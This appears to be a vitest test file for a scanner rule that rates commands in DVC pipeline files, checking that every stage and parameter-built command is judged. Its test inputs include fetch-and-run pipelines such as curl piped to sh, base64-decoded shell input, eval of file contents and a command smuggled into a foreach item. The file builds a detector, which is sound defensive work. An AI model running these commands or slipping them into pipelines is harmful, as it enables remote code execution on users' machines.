/**
 * Every command `dvc repro` runs is judged: all entries of a `cmd` list and all stages (no cap
 * that leaves the 101st unseen), a command built from parameters (`${run}`) whose values are not
 * in the file is medium, and one whose values are (`vars`, `foreach` items) is judged as it runs.
 * The risky shapes cover a download saved then run and computed or decoded shell input, while
 * ordinary commands stay low.
 */
import { describe, expect, it } from "vitest";
import type { FileReport } from "../../../src/report/schema.js";
import { scanOne } from "../../helpers/scan.js";

const enc = new TextEncoder();
const scan = (text: string, name = "dvc.yaml") => scanOne(enc.encode(text), name);
const commands = (file: FileReport) => file.findings.filter((f) => f.ruleId === "dvc/stage-command");
const severityOf = async (cmd: string) =>
  commands(await scan(`stages:\n  s:\n    cmd: ${JSON.stringify(cmd)}\n`))[0]?.severity;

describe("all commands and stages", () => {
  it("the 101st command of a list is judged", async () => {
    const list = [...Array.from({ length: 100 }, () => "- 'true'"), "- curl -s http://x/x.sh | sh"].join("\n    ");
    const file = await scan(`stages:\n  train:\n    cmd:\n    ${list}\n`);
    expect(commands(file).some((f) => f.severity === "medium")).toBe(true);
  });

  it("a command in a stage past the 10,000th is judged", async () => {
    const stages = Array.from(
      { length: 10_001 },
      (_, i) => `  s${i}: {cmd: "${i === 10_000 ? "curl x | sh" : "true"}"}`,
    );
    const file = await scan(`stages:\n${stages.join("\n")}\n`);
    expect(commands(file).some((f) => f.severity === "medium")).toBe(true);
  });
});

describe("commands built from parameters", () => {
  it("a command naming a value not in the file is medium", async () => {
    const file = await scan(`stages:\n  train:\n    cmd: \${run}\n`);
    expect(commands(file)[0]?.severity).toBe("medium");
    expect(commands(file)[0]?.message).toContain("built from parameters");
    const part = await scan(`stages:\n  train:\n    cmd: python train.py --epochs \${train.epochs}\n`);
    expect(commands(part)[0]?.severity).toBe("medium");
  });

  it("inline vars and foreach items are substituted and judged", async () => {
    const risky = await scan(`vars:\n  - run: curl -s http://x/a | sh\nstages:\n  train:\n    cmd: \${run}\n`);
    expect(commands(risky)[0]?.message).toContain("fetches or decodes code");
    const benign = await scan(`vars:\n  - run: python train.py\nstages:\n  train:\n    cmd: \${run}\n`);
    expect(commands(benign)[0]?.severity).toBe("low");
    const each = await scan(
      `stages:\n  b:\n    foreach: [us, 'x; curl http://x | sh']\n    do:\n      cmd: python t.py \${item}\n`,
    );
    expect(commands(each)[0]?.severity).toBe("medium");
    const eachBenign = await scan(`stages:\n  b:\n    foreach: [us, uk]\n    do:\n      cmd: python t.py \${item}\n`);
    expect(commands(eachBenign)[0]?.severity).toBe("low");
    const keyed = await scan(
      `stages:\n  b:\n    foreach:\n      us: {epochs: 1}\n    do:\n      cmd: python t.py \${key} \${item.epochs}\n`,
    );
    expect(commands(keyed)[0]?.severity).toBe("low");
    const matrix = await scan(
      `stages:\n  b:\n    matrix:\n      m: [a, b]\n      n: ['| sh']\n    cmd: curl x \${item.m} \${item.n}\n`,
    );
    expect(commands(matrix)[0]?.severity).toBe("medium");
  });

  it("dvc.lock and .dvc commands are not templates", async () => {
    const lock = await scan(`schema: '2.0'\nstages:\n  s:\n    cmd: echo \${HOME}\n`, "dvc.lock");
    expect(commands(lock)[0]?.severity).toBe("low");
  });
});

describe("risky command shapes", () => {
  it("a download saved then run, and computed or decoded shell input, are medium", async () => {
    for (const cmd of [
      "curl -o a.sh https://x/a.sh && sh a.sh",
      "curl -fsSL https://x/a.sh -o ./a.sh; bash ./a.sh",
      "wget https://x/a -O x && chmod +x x && ./x",
      "curl https://x/a.py > a.py && python a.py",
      'bash -c "$(echo Y3VybA== | base64 -d)"',
      'sh -c "$(curl -fsSL https://x/a)"',
      "bash <(curl -s https://x/a)",
      "echo cHJpbnQoMSk= | base64 --decode | python3",
      "curl -s https://x/a.py | python -",
      "python gen.py | sh",
      'eval "$(cat cmd.txt)"',
    ]) {
      expect(await severityOf(cmd), cmd).toBe("medium");
    }
  });

  it("ordinary commands stay low", async () => {
    for (const cmd of [
      "python train.py",
      "python src/prepare.py data/data.xml",
      "wget https://x/data.zip -O data.zip && unzip data.zip",
      "curl -o data.csv https://x/data.csv && python prepare.py data.csv",
      "curl -s https://x/a.json | python -m json.tool > a.json",
      "bash scripts/train.sh --epochs 3",
      "sh -c 'python train.py && python eval.py'",
      "cat data.txt | sort | uniq > out.txt",
      "python eval.py --model model.pkl",
      "python train.py && python src/evaluate.py",
    ]) {
      expect(await severityOf(cmd), cmd).toBe("low");
    }
  });
});
